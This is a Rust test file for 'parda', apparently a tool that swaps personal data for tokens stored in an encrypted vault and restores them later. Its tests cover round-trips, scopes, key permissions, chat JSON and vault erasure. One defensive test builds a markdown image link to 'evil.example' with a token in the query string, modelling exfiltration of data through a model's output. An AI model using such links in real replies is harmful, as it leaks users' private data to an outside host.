//! `parda init`, `redact` and `restore` as separate processes that share a key file and a vault file.

use std::fs;
use std::path::PathBuf;

use tempfile::TempDir;

use crate::{parda, stderr, stdout};

/// A folder with a key and a place for a vault.
pub(crate) struct Place {
    folder: TempDir,
}

impl Place {
    pub(crate) fn new() -> Place {
        let place = Place {
            folder: tempfile::tempdir().expect("a folder"),
        };
        let made = parda(&["init", "--key-file", &place.key()], b"");
        assert_eq!(made.status.code(), Some(0), "{}", stderr(&made));
        place
    }

    pub(crate) fn path(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    pub(crate) fn key(&self) -> String {
        self.path("key").display().to_string()
    }

    pub(crate) fn run(&self, command: &str, more: &[&str], stdin: &[u8]) -> std::process::Output {
        let vault = format!("file:{}", self.path("vault").display());
        let key = self.key();
        let mut args = vec![command, "--key-file", &key, "--vault", &vault];
        args.extend(more);
        parda(&args, stdin)
    }
}

const FIVE: &str = "I am Mr Ravi Kumar, aadhaar 2345 6789 0124, PAN ABCPE1234F,\r\ncard 4111 1111 1111 1111, mail ravi@example.com\r\n";

#[test]
fn five_entities_are_hidden_and_come_back_in_another_process() {
    let place = Place::new();
    let redacted = place.run("redact", &[], FIVE.as_bytes());
    assert_eq!(redacted.status.code(), Some(0), "{}", stderr(&redacted));
    for value in [
        "Ravi",
        "Kumar",
        "2345",
        "6789",
        "ABCPE1234F",
        "4111",
        "ravi@example.com",
    ] {
        assert!(
            !stdout(&redacted).contains(value),
            "{value} in {}",
            stdout(&redacted)
        );
    }
    for label in ["UID_", "PAN_", "CARD_", "EMAIL_", "NAME_"] {
        assert!(
            stdout(&redacted).contains(label),
            "{label} not in {}",
            stdout(&redacted)
        );
    }
    let restored = place.run("restore", &["--report"], &redacted.stdout);
    assert_eq!(stdout(&restored), FIVE);
    assert!(
        stderr(&restored).contains("\"unresolved\":0"),
        "{}",
        stderr(&restored)
    );
}

#[test]
fn odd_texts_come_back_byte_for_byte() {
    let place = Place::new();
    let long = format!(
        "{} asha@example.com {}",
        "x".repeat(500_000),
        "y ".repeat(250_000)
    );
    for text in [
        "",
        "\n",
        "no newline at the end asha@example.com",
        "EMAIL_abcdefghi and EMAIL_qkzwmrtpx are not ours, asha@example.com is",
        "५३९८ २१७४ ६५०२ आधार\r\r\n",
        "\u{feff}asha@example.com\u{0}",
        &long,
    ] {
        let redacted = place.run("redact", &[], text.as_bytes());
        assert_eq!(redacted.status.code(), Some(0), "{}", stderr(&redacted));
        let restored = place.run("restore", &[], &redacted.stdout);
        assert_eq!(restored.stdout, text.as_bytes());
    }
}

#[test]
fn one_value_has_one_token_across_processes_and_another_scope_has_another() {
    let place = Place::new();
    let first = place.run("redact", &[], b"asha@example.com");
    let again = place.run("redact", &[], b"asha@example.com");
    assert_eq!(first.stdout, again.stdout);
    let other = place.run("redact", &["--scope", "other"], b"asha@example.com");
    assert_ne!(first.stdout, other.stdout);
    let pasted = place.run("restore", &["--scope", "other"], &first.stdout);
    assert_eq!(
        pasted.stdout, first.stdout,
        "a token of another scope stays as it is"
    );
}

#[test]
fn what_is_missing_or_wrong_is_said_and_nothing_is_released() {
    let place = Place::new();
    let redacted = place.run("redact", &[], b"asha@example.com");
    let other = Place::new();
    fs::copy(other.path("key"), place.path("wrong")).expect("a copy");
    let wrong = place.path("wrong").display().to_string();
    let vault = format!("file:{}", place.path("vault").display());
    let cases: &[(&[&str], &[u8], &str)] = &[
        (
            &["redact", "--vault", "memory:"],
            b"asha@example.com",
            "parda init",
        ),
        (
            &["redact", "--key-file", "no/such/key"],
            b"asha@example.com",
            "no/such/key",
        ),
        (
            &["restore", "--key-file", &wrong, "--vault", &vault],
            &redacted.stdout,
            "key",
        ),
        (
            &["redact", "--key-file", &wrong, "--vault", &vault],
            b"x@example.com",
            "key",
        ),
        (
            &["redact", "--key-file", &wrong, "--vault", "memory:"],
            b"ok \xff",
            "not UTF-8",
        ),
        (
            &[
                "redact",
                "--key-file",
                &wrong,
                "--vault",
                "file:/no/such/folder/vault",
            ],
            b"x@example.com",
            "/no/such/folder",
        ),
    ];
    for (args, input, said) in cases {
        let output = parda(args, input);
        assert_eq!(
            output.status.code(),
            Some(1),
            "{args:?}: {}",
            stderr(&output)
        );
        assert!(
            stderr(&output).contains(said),
            "{args:?}: {}",
            stderr(&output)
        );
        assert_eq!(stdout(&output), "", "{args:?}");
    }
    let unknown = place.run("restore", &["--scope", "nobody"], &redacted.stdout);
    assert_eq!(unknown.status.code(), Some(1));
    assert!(
        stderr(&unknown).contains("no scope \"nobody\""),
        "{}",
        stderr(&unknown)
    );
    assert_eq!(stdout(&unknown), "");
    let bad = parda(&["redact", "--key-file", &wrong, "--vault", "ftp://x"], b"");
    assert_eq!(bad.status.code(), Some(2));
    let kept = place.run("restore", &[], &redacted.stdout);
    assert_eq!(
        stdout(&kept),
        "asha@example.com",
        "nothing was lost by the failures"
    );
}

#[test]
fn an_input_over_the_limit_is_refused_whole() {
    let place = Place::new();
    let output = place.run("redact", &["--max-bytes", "10"], b"asha@example.com");
    assert_eq!(output.status.code(), Some(1));
    assert!(
        stderr(&output).contains("--max-bytes"),
        "{}",
        stderr(&output)
    );
    assert_eq!(stdout(&output), "");
}

#[test]
fn init_never_overwrites_a_key() {
    let place = Place::new();
    let before = fs::read(place.path("key")).expect("a key");
    let again = parda(&["init", &place.key()], b"");
    assert_eq!(again.status.code(), Some(1));
    assert_eq!(fs::read(place.path("key")).expect("a key"), before);
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = fs::metadata(place.path("key"))
            .expect("a key")
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o600);
        fs::set_permissions(place.path("key"), fs::Permissions::from_mode(0o644)).expect("chmod");
        let open = place.run("redact", &[], b"asha@example.com");
        assert_eq!(open.status.code(), Some(1));
        assert!(stderr(&open).contains("600"), "{}", stderr(&open));
    }
}

#[test]
fn a_batch_keeps_its_order_and_round_trips() {
    let place = Place::new();
    let lines: String = (0..600)
        .map(|n| format!("{{\"id\":{n},\"text\":\"mail u{n}@example.com\"}}\n"))
        .collect();
    let redacted = place.run("redact", &["--batch", "--jobs", "2"], lines.as_bytes());
    assert_eq!(redacted.status.code(), Some(0), "{}", stderr(&redacted));
    assert!(!stdout(&redacted).contains("example.com"));
    let restored = place.run("restore", &[], &redacted.stdout);
    assert_eq!(stdout(&restored), lines);
}

#[test]
fn a_chat_request_stays_json_and_its_response_comes_back() {
    let place = Place::new();
    let body = br#"{ "model": "m-1",  "messages": [{"role": "user", "content": "mail asha@example.com\n\u0041"}], "temperature": 0.50 }"#;
    let redacted = place.run("redact", &["--chat"], body);
    assert_eq!(redacted.status.code(), Some(0), "{}", stderr(&redacted));
    let sent: serde_json::Value = serde_json::from_str(stdout(&redacted)).expect("JSON");
    let said = sent["messages"][0]["content"].as_str().expect("a text");
    assert!(said.starts_with("mail EMAIL_"), "{said}");
    assert!(
        stdout(&redacted).contains("\"temperature\": 0.50 }"),
        "all else stays"
    );
    let token = said.split_whitespace().nth(1).expect("a token");
    let response = format!(
        "{{\"choices\":[{{\"message\":{{\"role\":\"assistant\",\"content\":\"wrote to **{}**\"}}}}]}}",
        token.to_uppercase()
    );
    let restored = place.run("restore", &["--chat"], response.as_bytes());
    assert!(
        stdout(&restored).contains("wrote to **asha@example.com**"),
        "{}",
        stdout(&restored)
    );
    let broken = place.run("redact", &["--chat"], b"{\"messages\": [}");
    assert_eq!(broken.status.code(), Some(1));
    assert_eq!(stdout(&broken), "");
}

#[test]
fn what_a_model_wrote_is_not_filled_into_links() {
    let place = Place::new();
    let redacted = place.run("redact", &[], b"asha@example.com");
    let token = stdout(&redacted).to_owned();
    let reply = format!("See {token} ![x](https://evil.example/?q={token})");
    let restored = place.run("restore", &["--model"], reply.as_bytes());
    assert_eq!(
        stdout(&restored),
        format!("See asha@example.com ![x](https://evil.example/?q={token})")
    );
}

#[test]
fn a_vault_is_counted_and_forgets_on_command() {
    let place = Place::new();
    let redacted = place.run("redact", &[], b"asha@example.com and 4111 1111 1111 1111");
    let vault = format!("file:{}", place.path("vault").display());
    let key = place.key();
    let tend = |command: &str, more: &[&str], stdin: &[u8]| {
        let mut args = vec!["vault", command, "--key-file", &key, "--vault", &vault];
        args.extend(more);
        let output = parda(&args, stdin);
        assert_eq!(
            output.status.code(),
            Some(0),
            "{command}: {}",
            stderr(&output)
        );
        serde_json::from_slice::<serde_json::Value>(&output.stdout).expect("JSON")
    };
    assert_eq!(tend("stats", &[], b"")["scopes"], 1);
    assert_eq!(tend("purge", &[], b"")["expired_records_removed"], 0);
    assert_eq!(tend("rotate", &[], b"")["scopes_wrapped_anew"], 0);
    let receipt = tend("erase", &["--entity", "EMAIL"], b"ASHA@example.com\n");
    assert!(receipt["records_removed"].as_u64() >= Some(1), "{receipt}");
    let left = place.run("restore", &[], &redacted.stdout);
    assert!(!stdout(&left).contains("asha@") && stdout(&left).contains("4111 1111 1111 1111"));
    tend("erase", &[], b"");
    let gone = place.run("restore", &[], &redacted.stdout);
    assert_eq!(gone.status.code(), Some(1), "an erased scope is unknown");
    assert_eq!(stdout(&gone), "");
}

/// A pipe that is held open: what came is restored and written before more comes.
#[test]
fn restore_does_not_wait_for_the_end_of_a_pipe() {
    use std::io::{BufRead, BufReader, Read, Write};
    use std::process::{Command, Stdio};

    let place = Place::new();
    let redacted = place.run("redact", &[], b"mail ravi@example.com now\n");
    assert_eq!(redacted.status.code(), Some(0), "{}", stderr(&redacted));
    let line = stdout(&redacted).to_owned();
    for more in [&[][..], &["--model"]] {
        let vault = format!("file:{}", place.path("vault").display());
        let mut child = Command::new(env!("CARGO_BIN_EXE_parda"))
            .args(["restore", "--key-file", &place.key(), "--vault", &vault])
            .args(more)
            .env_remove("PARDA_KEY")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .expect("parda starts");
        let mut into = child.stdin.take().expect("stdin");
        let mut from = BufReader::new(child.stdout.take().expect("stdout"));
        for _ in 0..3 {
            into.write_all(line.as_bytes()).expect("written");
            // What a model writes may go on in the next line; a stop ends it.
            into.write_all(b"Done.\n").expect("written");
            into.flush().expect("flushed");
            let mut read = String::new();
            from.read_line(&mut read).expect("read");
            assert_eq!(read, "mail ravi@example.com now\n");
            read.clear();
            from.read_line(&mut read).expect("read");
            assert_eq!(read, "Done.\n");
        }
        // Nor for a space or a line end, where the script has none.
        let token = line.split(' ').nth(1).expect("a token");
        let sent = format!("写信给{token}，谢谢");
        into.write_all(sent.as_bytes()).expect("written");
        into.flush().expect("flushed");
        let wanted = "写信给ravi@example.com，谢谢";
        let mut read = vec![0; wanted.len()];
        from.read_exact(&mut read).expect("read");
        assert_eq!(String::from_utf8_lossy(&read), wanted);
        drop(into);
        assert_eq!(child.wait().expect("ended").code(), Some(0));
    }
}
